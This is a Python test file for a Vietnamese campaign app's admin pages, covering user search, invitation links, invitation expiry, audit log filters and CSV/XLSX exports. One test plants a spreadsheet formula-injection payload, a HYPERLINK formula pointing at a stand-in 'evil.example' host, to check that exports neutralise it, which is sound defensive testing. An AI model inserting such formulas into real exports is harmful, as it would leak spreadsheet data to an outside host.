"""The admin's account pages: users (search, create with an invitation, edit), invitations that
expire, the audit log viewer with formula-safe exports, and the mail sink page."""
from __future__ import annotations

import csv
import io
import re
from datetime import timedelta

import openpyxl
import sqlalchemy as sa

from campaign.extensions import db
from campaign.models import AuditLog, Invitation, User
from campaign.models.base import utcnow
from campaign.services import audit
from tests.accounts_helpers import smtp  # noqa: F401  (fixture)
from tests.conftest import Client


def _setup(factory):
    ward = factory.unit("ward", name="Phường Điện Biên", code="00007")
    factory.user("admin", username="quantri")
    factory.user("officer", unit=ward, username="cb-dienbien", full_name="Lê Thị Mai", email="mai@pdb.example")
    factory.user("judge", username="giamkhao1", full_name="Phạm Quốc Dũng")
    db.session.commit()
    return ward


def test_user_list_search_and_filters(client, factory):
    _setup(factory)
    client.login("quantri")
    html = client.get("/admin/users").get_data(as_text=True)
    assert "3 người dùng" in html and 'data-testid="user-cb-dienbien"' in html
    html = client.get("/admin/users?role=judge").get_data(as_text=True)
    assert 'data-testid="user-giamkhao1"' in html and 'data-testid="user-cb-dienbien"' not in html
    html = client.get("/admin/users?q=Mai").get_data(as_text=True)
    assert "1 người dùng" in html and "Lê Thị Mai" in html
    # search ignores diacritics and case, and finds officers by their unit's name
    html = client.get("/admin/users?q=pham quoc dung").get_data(as_text=True)
    assert "1 người dùng" in html and "Phạm Quốc Dũng" in html
    html = client.get("/admin/users?q=DIEN BIEN").get_data(as_text=True)
    assert 'data-testid="user-cb-dienbien"' in html and 'data-testid="user-giamkhao1"' not in html
    html = client.get("/admin/users?unit=00007").get_data(as_text=True)
    assert "1 người dùng" in html and "00007 · Phường Điện Biên" in html
    assert "0 người dùng" in client.get("/admin/users?unit=99999").get_data(as_text=True)


def test_create_user_gives_a_single_use_link_and_a_taken_name_keeps_the_draft(app, client, factory):
    ward = _setup(factory)
    client.login("quantri")
    taken = client.submit("/admin/users/new", {"username": "cb-dienbien", "full_name": "Người Khác", "role": "officer",
                                               "unit_id": str(ward.id), "email": "", "phone": "0912345678"})
    html = taken.get_data(as_text=True)
    assert taken.status_code == 422 and "Tên đăng nhập “cb-dienbien” đã có người dùng." in html
    assert 'value="Người Khác"' in html and 'value="0912345678"' in html  # the draft is kept
    no_unit = client.submit("/admin/users/new", {"username": "cb-moi", "full_name": "Cán bộ mới", "role": "officer",
                                                 "unit_id": ""})
    assert no_unit.status_code == 422 and "Cán bộ đơn vị phải thuộc một đơn vị." in no_unit.get_data(as_text=True)
    resp = client.submit("/admin/users/new", {"username": "cb-moi", "full_name": "Cán bộ mới", "role": "officer",
                                              "unit_id": str(ward.id), "email": "", "phone": ""})
    assert resp.status_code == 302
    page = client.get(resp.headers["Location"]).get_data(as_text=True)
    assert "Đã tạo tài khoản cb-moi và thư mời đặt mật khẩu." in page
    link = re.search(r'value="http://[^/]+(/invite/[^"]+)" data-testid="invite-link"', page).group(1)
    user = db.session.scalar(sa.select(User).where(User.username == "cb-moi"))
    # only a hash of the token is stored
    inv = db.session.scalar(sa.select(Invitation).where(Invitation.user_id == user.id))
    assert link.rsplit("/", 1)[1] not in (inv.token_hash, inv.nonce)
    # no password yet: nobody can sign in as cb-moi
    assert Client(app.test_client()).login("cb-moi", "!").status_code == 401
    person = Client(app.test_client())
    weak = person.submit(link, {"new": "12345678", "confirm": "12345678"})
    assert weak.status_code == 422 and "danh sách mật khẩu phổ biến" in weak.get_data(as_text=True)
    mismatch = person.submit(link, {"new": "trời trong xanh quá", "confirm": "trời xanh"})
    assert mismatch.status_code == 422 and "Hai lần nhập mật khẩu không khớp." in mismatch.get_data(as_text=True)
    ok = person.submit(link, {"new": "trời trong xanh quá", "confirm": "trời trong xanh quá"})
    assert ok.status_code == 302
    assert "cb-moi" in person.get("/account").get_data(as_text=True)
    assert Client(app.test_client()).get(link).status_code == 404


def test_expired_and_replaced_invitations_are_refused(app, client, factory):
    _setup(factory)
    officer = db.session.scalar(sa.select(User).where(User.username == "cb-dienbien"))
    client.login("quantri")
    client.submit(f"/admin/users/{officer.id}/reset", {}, page=f"/admin/users/{officer.id}")
    first = re.search(r'value="http://[^/]+(/invite/[^"]+)"', client.get(f"/admin/users/{officer.id}")
                      .get_data(as_text=True)).group(1)
    # the reset also ended the old password
    assert Client(app.test_client()).login("cb-dienbien").status_code == 401
    client.submit(f"/admin/users/{officer.id}/reset", {}, page=f"/admin/users/{officer.id}")
    second = re.search(r'value="http://[^/]+(/invite/[^"]+)"', client.get(f"/admin/users/{officer.id}")
                       .get_data(as_text=True)).group(1)
    assert first != second
    assert Client(app.test_client()).get(first).status_code == 404  # replaced
    inv = db.session.scalar(sa.select(Invitation).where(Invitation.user_id == officer.id, Invitation.revoked_at.is_(None)))
    inv.expires_at = inv.created_at + timedelta(days=7) - timedelta(days=8)  # 8 days later: 1 day past expiry
    db.session.commit()
    expired = Client(app.test_client()).get(second)
    assert expired.status_code == 404
    assert "Liên kết mời không còn hiệu lực" in expired.get_data(as_text=True)


def test_audit_log_filters_and_formula_safe_exports(app, client, factory):
    ward = _setup(factory)
    evil = '=HYPERLINK("http://evil.example/?"&A1,"x")'
    admin_id = db.session.scalar(sa.select(User.id).where(User.username == "quantri"))
    audit.record("unit.update", "unit", ward.id, before={"name": "Phường Điện Biên"}, after={"name": evil},
                 unit_id=ward.id, reason="+sửa tên", actor=admin_id)
    db.session.commit()
    client.login("quantri")
    html = client.get("/admin/audit?action=unit.update").get_data(as_text=True)
    assert "1 dòng" in html and "Sửa đơn vị" in html and "00007 Phường Điện Biên" in html and "quantri" in html
    assert "&#34;=HYPERLINK" in html or "=HYPERLINK" in html
    assert "0 dòng" in client.get("/admin/audit?user=giamkhao1").get_data(as_text=True)
    assert "1 dòng" in client.get("/admin/audit?unit=00007").get_data(as_text=True)
    today = (utcnow() + timedelta(hours=7)).date()  # the admin's calendar day in Hà Nội
    assert "1 dòng" in client.get(f"/admin/audit?action=unit.update&date_from={today}&date_to={today}").get_data(as_text=True)
    tomorrow = today + timedelta(days=1)
    assert "0 dòng" in client.get(f"/admin/audit?action=unit.update&date_from={tomorrow}").get_data(as_text=True)
    # the log can only grow: the login above is there too, newest first
    assert ">Đăng nhập<" in client.get("/admin/audit?user=quantri").get_data(as_text=True)
    raw = client.get("/admin/audit/export.csv?action=unit.update").get_data(as_text=True)
    rows = list(csv.reader(io.StringIO(raw.lstrip("\ufeff"))))
    assert rows[0][:5] == ["Số dòng nhật ký", "Thời điểm (giờ Hà Nội, UTC+7)", "Người thực hiện", "Vai trò", "Hành động"]
    assert rows[1][2:6] == ["quantri", "Quản trị", "Sửa đơn vị", f"Đơn vị số {ward.id}"]  # as the page shows them
    assert rows[1][9] == 'Tên: =HYPERLINK("http://evil.example/?"&A1,"x")'  # starts with the field's name: harmless
    assert rows[1][10] == "'+sửa tên"  # a formula-looking reason is quoted in CSV
    assert rows[1][13].startswith('{"name": "=HYPERLINK')  # the recorded JSON: starts with "{", harmless
    ws = openpyxl.load_workbook(io.BytesIO(client.get("/admin/audit/export.xlsx?action=unit.update").data)).active
    assert ws.cell(row=2, column=11).value == "+sửa tên" and ws.cell(row=2, column=11).data_type == "s"
    assert db.session.scalar(sa.select(sa.func.count()).select_from(AuditLog).where(AuditLog.action == "unit.update")) == 1


def test_mail_page_lists_what_the_sink_received(app, client, factory, smtp):  # noqa: F811
    _setup(factory)
    import smtplib

    with smtplib.SMTP("127.0.0.1", app.config["SMTP_PORT"]) as s:
        s.sendmail("thidua@tinh.example", ["mai@pdb.example"],
                   "Subject: =?utf-8?q?Th=C6=B0_th=E1=BB=AD?=\r\nTo: mai@pdb.example\r\n\r\nNoi dung\r\n")
    smtp.wait_for(lambda m: True)
    client.login("quantri")
    html = client.get("/admin/mail").get_data(as_text=True)
    assert "Thư thử" in html and "mai@pdb.example" in html and "Noi dung" in html
    client.post("/lang/en", data={"next": "/admin/mail"})
    assert "Sent mail (test sink)" in client.get("/admin/mail").get_data(as_text=True)


def test_the_admin_dashboard_links_to_users_and_the_audit_log(client, factory):
    _setup(factory)
    client.login("quantri")
    html = client.get("/admin/").get_data(as_text=True)
    assert 'href="/admin/users"' in html and 'href="/admin/audit"' in html
